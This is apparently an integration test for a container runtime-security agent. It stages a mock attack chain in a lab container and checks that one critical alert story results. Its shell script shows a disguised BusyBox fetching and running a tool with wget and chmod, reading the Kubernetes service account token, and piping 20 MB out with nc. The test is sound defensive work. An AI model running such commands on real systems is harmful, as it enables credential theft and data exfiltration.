//! The whole of an attack, as one story: a static binary under another name fetches a tool, the tool is made
//! executable and run, reads the service account's token and sends twenty megabytes out.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;

use anyhow::{Context as _, Result, ensure};
use serde_json::Value;
use tests::agent::Line;
use tests::docker::Container;
use tests::wait;
use tests::world::{World, artefact};

use crate::Case;
use crate::transfer::{ALERT_MAX, ensure_container};

/// What is sent, bytes.
const LOOT: u64 = 20_000_000;
/// HTTP around it: everything else that goes out over the connection.
const REQUEST: &str = "PUT /upload/loot HTTP/1.0\r\nHost: files\r\nContent-Length: 20000000\r\n\r\n";
/// Where `/var/run` leads.
const TOKEN: &str = "/run/secrets/kubernetes.io/serviceaccount/token";
/// BusyBox goes by its own name however it goes on, and by no other.
const FETCHER: &str = "/opt/busybox-sync";
const TOOL: &str = "/tmp/.cache/busybox-agent";

pub(crate) fn cases() -> Vec<Case> {
    vec![Case::new("chain: fetched, run, token read, 20 MB sent: one critical story", chain)]
}

/// The token is read again and again: where fentry is refused, a secret is watched a moment after its container began.
fn script() -> String {
    format!(
        "mkdir -p /tmp/.cache\n\
         {FETCHER} wget -q -O {TOOL} http://10.201.0.1/download/tool\n\
         chmod +x {TOOL}\n\
         for turn in 1 2 3 4; do {TOOL} cat {TOKEN} >/tmp/.cache/t; sleep 0.5; done\n\
         {TOOL} dd if=/dev/zero of=/tmp/.cache/loot bs=1000000 count=20 2>/dev/null\n\
         printf '{}' >/tmp/.cache/request\n\
         cat /tmp/.cache/request /tmp/.cache/loot | {TOOL} nc 10.201.0.1 80\n",
        REQUEST.replace('\r', "\\r").replace('\n', "\\n")
    )
}

fn chain(world: &World) -> Result<String> {
    let busybox = artefact("TIDEWAITER_LAB", "target/lab", "cargo xtask setup")?.join("machine/bin/busybox");
    let folder = world.directory().join("chain");
    fs::create_dir_all(&folder)?;
    for (path, mode) in
        [(folder.join("busybox-sync"), 0o755), (world.servers.root.join("srv/lab/download/tool"), 0o644)]
    {
        fs::copy(&busybox, &path).with_context(|| format!("copying {}", busybox.display()))?;
        fs::set_permissions(&path, fs::Permissions::from_mode(mode))?;
    }
    fs::write(folder.join("token"), "not a token\n")?;
    let mounts = [(folder.join("busybox-sync"), FETCHER), (folder.join("token"), TOKEN)]
        .map(|(from, to): (_, &str)| format!("{}:{to}:ro", from.display()));
    let options = ["--volume", &mounts[0], "--volume", &mounts[1]];
    let container = world.container_with("chain", &options, &["sleep", "600"])?;
    container.start()?;
    let ended = container.exec(&["sh", "-c", &script()])?;
    ensure!(ended.status.success(), "the chain itself ended with {}: {}", ended.status, ended.output);
    let arrived = wait::until(ALERT_MAX, "the loot", || world.servers.uploaded("loot"))?.len() as u64;
    ensure!(arrived == LOOT, "{arrived} bytes arrived");

    let told = world.agent().await_line(ALERT_MAX, "the whole story", |line| {
        is_of(line, &container) && line.field("source.bytes").and_then(Value::as_u64) >= Some(LOOT)
    })?;
    ensure_whole(&told, &container).with_context(|| told.document.to_string())?;
    let story = told.text("tidewaiter.story.id").to_owned();
    let lines = world.agent().lines_so_far(|line| is_of(line, &container))?;
    let others = lines.iter().filter(|line| line.text("tidewaiter.story.id") != story);
    let others: Vec<_> =
        others.map(|line| (line.text("rule.name"), line.text("process.command_line"))).collect();
    ensure!(others.is_empty(), "{} of {} alerts are of another story: {others:?}", others.len(), lines.len());
    Ok(format!("{} alerts and amendments of one story", lines.len()))
}

fn is_of(line: &Line, container: &Container<'_>) -> bool {
    (line.is("alert") || line.is("amendment")) && line.text("container.id") == container.id
}

fn ensure_whole(told: &Line, container: &Container<'_>) -> Result<()> {
    ensure_container(told, container)?;
    told.ensure_field("event.severity", &100.into())?;
    told.ensure_field("tidewaiter.story.level", &"critical".into())?;
    let sent = told.field("source.bytes").and_then(Value::as_u64).unwrap_or_default();
    // The download's request goes out as well: BusyBox sends some hundred bytes.
    let beside = sent.checked_sub(LOOT + REQUEST.len() as u64).context("less was sent than went out")?;
    ensure!(beside < 400, "{sent} bytes were sent, {beside} more than the requests have");
    let list = |field: &str, key: &str| -> Vec<String> {
        let items = told.field(field).and_then(Value::as_array).into_iter().flatten();
        items.filter_map(|item| Some(item.get(key)?.as_str()?.to_owned())).collect()
    };
    let stages = list("tidewaiter.story.stages", "stage");
    for stage in ["brought_in", "ran", "read_secret", "called_home", "sent_out"] {
        ensure!(stages.iter().any(|told| told == stage), "no stage {stage}: {stages:?}");
    }
    let steps = told.field("tidewaiter.steps").and_then(Value::as_array).context("no steps")?;
    let has = |action: &str, path: &str| {
        steps.iter().any(|step| {
            let is = |key: &str, value: &str| step.get(key).and_then(Value::as_str) == Some(value);
            is("action", action) && (is("path", path) || is("to", path))
        })
    };
    let name = Path::new(TOOL).file_name().and_then(|name| name.to_str()).unwrap_or_default();
    ensure!(has("wrote", TOOL), "nobody wrote {TOOL}");
    ensure!(has("made_executable", TOOL), "nobody made {TOOL} executable");
    ensure!(has("read", TOKEN), "nobody read the token");
    let ran = |step: &Value| {
        step.get("action").and_then(Value::as_str) == Some("executed")
            && step.get("command_line").and_then(Value::as_str).is_some_and(|line| line.contains(name))
    };
    ensure!(steps.iter().any(ran), "nobody ran {TOOL}");
    Ok(())
}
